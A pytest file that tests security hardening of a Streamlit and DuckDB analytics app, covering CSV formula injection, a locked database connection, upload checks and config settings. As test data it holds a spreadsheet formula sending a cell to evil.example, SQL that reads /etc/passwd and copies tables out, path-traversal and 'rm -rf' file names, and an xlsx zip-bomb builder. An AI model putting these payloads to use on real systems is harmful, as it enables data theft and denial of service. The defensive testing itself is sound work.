"""Hardening: CSV downloads cannot start a spreadsheet formula, the app's DuckDB connection can
read nothing but its own file, uploads are checked on the server, the Streamlit config is
locked down."""

from __future__ import annotations

import csv
import hashlib
import io
import tomllib
import zipfile
from collections.abc import Callable
from pathlib import Path

import duckdb
import polars as pl
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

import queries
from loaders import read, uploads
from loaders.build import build_database
from queries.__main__ import main as queries_cli
from queries.export import safe_csv
from tests.conftest import APP, PROJECT, TINY, write_extracts

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL_PARTNERS = """
    partner_id,partner_name,partner_types,tier,joined_at,region,country,partner_manager,status
    P1,"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",referral;reseller,gold,2025-01-15,+EMEA,DE,@Maria Lopez,active
    P2,-2+3,integration,silver,2026-02-01,NA,US,Sam Reed,active
    P3,Cobalt Consulting,services,registered,2024-06-01,NA,CA,Sam Reed,terminated
"""


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def formula_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would run as a formula (numbers like -150.00 are numbers, not formulas)."""
    rows = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not is_number(cell)]


# ---- CSV injection ------------------------------------------------------------------------


def test_text_cells_that_could_start_a_formula_get_a_leading_quote_and_numbers_stay_numbers():
    frame = pl.DataFrame(
        {
            "name": ["=1+1", "+SUM(A1)", "-cmd", "@A1", "\tTab", "\rCR", "plain", "a=b", None],
            "amount": [-150.0, 2.5, 0.0, -1.0, 3.0, 4.0, 5.0, 6.0, 7.0],
            "tags": [["=bad", "ok"], ["ok"], [], ["-x"], ["y"], ["z"], ["w"], ["v"], None],
        }
    )
    rows = list(csv.reader(io.StringIO(safe_csv(frame).decode("utf-8"), newline="")))
    assert rows[0] == ["name", "amount", "tags"]
    assert [row[0] for row in rows[1:]] == ["'=1+1", "'+SUM(A1)", "'-cmd", "'@A1", "'\tTab", "'\rCR", "plain", "a=b", ""]
    assert [row[1] for row in rows[1:]] == ["-150.0", "2.5", "0.0", "-1.0", "3.0", "4.0", "5.0", "6.0", "7.0"]
    assert [row[2] for row in rows[1:3]] == ["'=bad; ok", "ok"]
    assert rows[4][2] == "'-x"


@pytest.fixture
def evil_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The tiny program whose partner names, regions and managers are formula strings."""
    db = tmp_path / "evil.duckdb"
    build_database(write_extracts(tmp_path / "x", {**TINY, "partners.csv": EVIL_PARTNERS}), db)
    monkeypatch.setenv("PULSE_DB", str(db))
    return db


def test_the_command_line_export_neutralises_formula_cells(evil_db: Path, tmp_path: Path):
    out = tmp_path / "partners.csv"
    assert queries_cli(["export", "partner_search", "--db", str(evil_db), "--out", str(out)]) == 0
    data = out.read_bytes()
    assert formula_cells(data) == []
    text = data.decode("utf-8")
    assert "'=HYPERLINK" in text and "'-2+3" in text and "'@Maria Lopez" in text and "'+EMEA" in text
    out_dir = tmp_path / "many"
    assert queries_cli(["export", "partner_search", "load_report", "--out-dir", str(out_dir), "--db", str(evil_db)]) == 0
    assert formula_cells((out_dir / "partner_search.csv").read_bytes()) == []


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[], bytes]]:
    """Every CSV the app offers in a download button, by the id the button carries: the writer
    the click runs (downloads are written when clicked)."""
    captured: dict[str, Callable[[], bytes]] = {}
    original = MediaFileManager.add_deferred

    def recording(self, data_callable, mimetype, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
        file_id = original(self, data_callable, mimetype, *args, **kwargs)
        if mimetype == "text/csv":
            captured[file_id] = data_callable
        return file_id

    monkeypatch.setattr(MediaFileManager, "add_deferred", recording)
    return captured


PAGES = ["health", "forecast", "engagement", "partner", "attribution", "disagreements", "data"]


def test_no_download_on_any_page_holds_a_formula_cell(evil_db: Path, downloads: dict[str, Callable[[], bytes]]):
    seen = 0
    for page in PAGES:
        at = AppTest.from_file(str(APP), default_timeout=60)
        at.query_params["period"] = "All time"
        if page == "partner":
            at.query_params["partner"] = "P1"
        at.run()
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, f"{page}: {at.exception[0].message}"
        for button in at.get("download_button"):
            if button.proto.deferred_file_id not in downloads:
                continue  # an Excel file made on click: tests/test_workbook.py checks it holds no formula
            data = downloads[button.proto.deferred_file_id]()
            seen += 1
            assert formula_cells(data) == [], f"{page}: {button.label} {button.proto.deferred_file_id}"
    assert seen >= 5, "the pages offered downloads to check"
    everything = b"".join(write() for write in downloads.values()).decode("utf-8")
    assert "'=HYPERLINK" in everything, "the evil partner name was in some download, neutralised"


def test_the_dataframe_export_button_is_off_because_it_would_not_sanitise():
    config = tomllib.loads((PROJECT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


# ---- the app's DuckDB connection ----------------------------------------------------------


@pytest.fixture(scope="module")
def tiny_built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny program, built once for this module (nothing here may change it)."""
    folder = tmp_path_factory.mktemp("served")
    db = folder / "tiny.duckdb"
    build_database(write_extracts(folder / "x", TINY), db)
    # Another DuckDB file and a CSV in the same data folder: neither may be reached.
    with duckdb.connect(str(folder / "other.duckdb")) as con:
        con.execute("create table secret as select 42 as x")
    (folder / "notes.csv").write_text("a\n1\n")
    return db


@pytest.fixture
def tiny_db(tiny_built: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("PULSE_DB", str(tiny_built))
    return tiny_built


@pytest.fixture
def locked(tiny_db: Path) -> duckdb.DuckDBPyConnection:
    return queries.connect(tiny_db)


@pytest.mark.parametrize(
    ("sql", "error"),
    [
        ("select * from read_csv('/etc/passwd')", "disabled by configuration"),
        ("select * from read_text('/etc/passwd')", "disabled by configuration"),
        ("select * from read_csv('{folder}/notes.csv')", "disabled by configuration"),
        ("select * from glob('{folder}/*')", "disabled by configuration"),
        ("set enable_external_access = true", "configuration has been locked"),
        ("set allowed_directories = ['/']", "configuration has been locked"),
        ("set lock_configuration = false", "configuration has been locked"),
        ("set memory_limit = '1TB'", "configuration has been locked"),
        ("create table hacked as select 1", "read-only mode"),
        ("insert into partners (partner_id) values ('X')", "read-only mode"),
        ("delete from partners", "read-only mode"),
        ("drop table partners", "read-only mode"),
        ("attach '{folder}/other.duckdb' as other", "disabled by configuration"),
        ("attach '/tmp/anything.duckdb' as other", None),
        ("copy partners to '{folder}/stolen.csv'", "disabled by configuration"),
        ("copy partners to '/tmp/stolen.csv'", "disabled by configuration"),
        ("export database '{folder}/dump'", "disabled by configuration"),
        ("install httpfs", None),
        ("load httpfs", None),
    ],
)
def test_the_app_connection_refuses_files_writes_attach_and_config_changes(
    locked: duckdb.DuckDBPyConnection, tiny_db: Path, sql: str, error: str | None
):
    with pytest.raises(duckdb.Error, match=error):
        locked.execute(sql.replace("{folder}", str(tiny_db.parent))).fetchall()
    assert not (tiny_db.parent / "stolen.csv").exists()
    assert locked.execute("select count(*) from partners").fetchall() == [(3,)]


def test_the_app_connection_still_answers_queries_after_locking(tiny_db: Path):
    con = queries.connect(tiny_db)
    assert queries.execute(con, "load_report").height == 7
    assert con.execute("select current_setting('enable_external_access'), current_setting('lock_configuration')").fetchall() == [
        (False, True)
    ]


# ---- uploads ------------------------------------------------------------------------------


@pytest.fixture
def served(tiny_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setattr(uploads, "DATA_DIR", tmp_path / "data")
    return tiny_db


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


PARTNERS_CSV = b"partner_id,partner_name,partner_types,tier,joined_at\nP1,A,referral,gold,2025-01-01\n"


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("partners.exe", "partners.exe: not an extract file name"),
        ("partners.csv.sh", "not an extract file name"),
        ("partners", "not an extract file name"),
        ("../partners.csv", "'../partners.csv': not an extract file name (a bare file name"),
        ("../../../etc/cron.d/partners.csv", "not an extract file name (a bare file name"),
        ("/etc/passwd.csv", "not an extract file name (a bare file name"),
        ("sub/partners.csv", "not an extract file name (a bare file name"),
        ("..\\..\\partners.csv", "not an extract file name"),
        (".partners.csv", "not an extract file name (a bare file name"),
        ("..csv", "not an extract file name (a bare file name"),
        ("partners;rm -rf.csv", "not an extract file name"),
        ("partners\x00.csv", "not an extract file name"),
    ],
)
def test_an_upload_with_a_bad_name_is_refused_and_nothing_changes(served: Path, name: str, message: str):
    before = digest(served)
    with pytest.raises(uploads.UploadRefused, match=message.replace("(", r"\(").replace(".", r"\.")):
        uploads.build_from_upload([(name, PARTNERS_CSV)])
    assert digest(served) == before
    assert not (uploads.DATA_DIR / "extracts").exists() or not any((uploads.DATA_DIR / "extracts").iterdir())


def test_an_upload_over_the_size_cap_is_refused_on_the_server(served: Path, monkeypatch: pytest.MonkeyPatch):
    before = digest(served)
    monkeypatch.setattr(uploads, "MAX_UPLOAD_BYTES", 1000)
    with pytest.raises(uploads.UploadRefused, match="partners.csv: 1,001 bytes, over the 1,000-byte upload limit"):
        uploads.build_from_upload([("partners.csv", b"x" * 1001)])
    assert digest(served) == before


def test_the_server_side_cap_matches_the_browser_cap_in_the_config():
    config = tomllib.loads((PROJECT / ".streamlit" / "config.toml").read_text())
    assert uploads.MAX_UPLOAD_BYTES == config["server"]["maxUploadSize"] * 1024**2


def xlsx_bomb(path: Path, expanded_mb: int) -> Path:
    """A workbook whose sheet is `expanded_mb` MB of spaces: a few hundred KB on disk."""
    pl.DataFrame({"partner_id": ["P1"], "partner_name": ["A"]}).write_excel(path.with_suffix(".base.xlsx"))
    with (
        zipfile.ZipFile(path.with_suffix(".base.xlsx")) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb,
    ):
        for name in source.namelist():
            if name != "xl/worksheets/sheet1.xml":
                bomb.writestr(name, source.read(name))
                continue
            head, tail = source.read(name).rsplit(b"</worksheet>", 1)
            with bomb.open(name, "w", force_zip64=True) as sheet:
                sheet.write(head)
                chunk = b" " * 1024**2
                for _ in range(expanded_mb):
                    sheet.write(chunk)
                sheet.write(b"</worksheet>" + tail)
    return path


def test_an_xlsx_zip_bomb_is_refused_with_a_message_and_the_served_database_is_unchanged(served: Path, tmp_path: Path):
    expanded_mb = read.MAX_XLSX_UNCOMPRESSED // 1024**2 + 16
    bomb = xlsx_bomb(tmp_path / "partners.xlsx", expanded_mb)
    assert bomb.stat().st_size < 5 * 1024**2, "small on disk, huge expanded"
    before = digest(served)
    refusal = r"partners\.xlsx: the workbook expands to [\d,]+ bytes, over the 536,870,912-byte limit"
    with pytest.raises(uploads.UploadRefused, match=refusal):
        uploads.build_from_upload([("partners.xlsx", bomb.read_bytes())])
    assert digest(served) == before


def test_the_extension_allow_list_is_what_the_uploader_offers():
    source = (PROJECT / "pages" / "data.py").read_text()
    assert 'type=[ext.lstrip(".") for ext in uploads.EXTENSIONS]' in source
    assert uploads.EXTENSIONS == (".csv", ".tsv", ".txt", ".parquet", ".xlsx")


# ---- the Streamlit config -----------------------------------------------------------------


def test_the_streamlit_config_is_hardened_and_its_options_exist():
    import streamlit.config as streamlit_config

    text = (PROJECT / ".streamlit" / "config.toml").read_text()
    config = tomllib.loads(text)
    assert config["server"]["enableXsrfProtection"] is True
    assert config["server"]["enableCORS"] is True
    assert "*" not in config["server"].get("corsAllowedOrigins", [])
    assert config["browser"]["gatherUsageStats"] is False
    assert "allowedHosts" in text and "address" in text, "documented for deployment"
    streamlit_config.get_option("server.port")  # loads the option registry
    for section, options in config.items():
        for option in options:
            assert f"{section}.{option}" in streamlit_config._config_options, f"{section}.{option} is not a Streamlit option"
    for documented in ("server.allowedHosts", "server.address"):
        assert documented in streamlit_config._config_options
